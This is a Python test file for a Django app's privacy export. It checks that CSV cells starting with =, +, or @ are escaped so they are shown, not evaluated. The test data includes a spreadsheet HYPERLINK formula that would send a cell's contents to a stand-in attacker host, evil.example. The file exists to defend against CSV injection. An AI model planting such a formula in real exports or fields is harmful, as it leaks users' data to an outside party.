"""The privacy export's CSV files carry text other people typed (a partner's name, a
reviewer's comment): a cell that starts like a formula is shown, never run."""

import csv
import io
import zipfile

import pytest

from brobygger.privacy.exports import build_zip

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'


def _cells(archive: bytes, name: str) -> list[list[str]]:
    text = zipfile.ZipFile(io.BytesIO(archive)).read(f"csv/{name}.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_formula_text_is_escaped_and_numbers_and_json_stay_as_they_are():
    document = {
        "tables": {
            "pairs": [
                {"partner": FORMULA, "note": "+47 99 99 99 99", "score": -3, "tags": ["a"]},
                {"partner": "@Kari", "note": "Vanlig tekst", "score": 4.5, "tags": None},
            ]
        }
    }

    rows = _cells(build_zip(document), "pairs")

    assert rows == [
        ["partner", "note", "score", "tags"],
        ["'" + FORMULA, "'+47 99 99 99 99", "-3", '["a"]'],
        ["'@Kari", "Vanlig tekst", "4.5", ""],
    ]


def test_a_real_export_escapes_a_planted_formula(mentee_anne):
    from brobygger.privacy.exports import collect

    mentee_anne.job_title = FORMULA
    mentee_anne.save()

    archive = build_zip(collect(mentee_anne))

    names = [n for n in zipfile.ZipFile(io.BytesIO(archive)).namelist() if n.startswith("csv/")]
    cells = [
        cell
        for name in names
        for row in _cells(archive, name.removeprefix("csv/").removesuffix(".csv"))
        for cell in row
    ]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
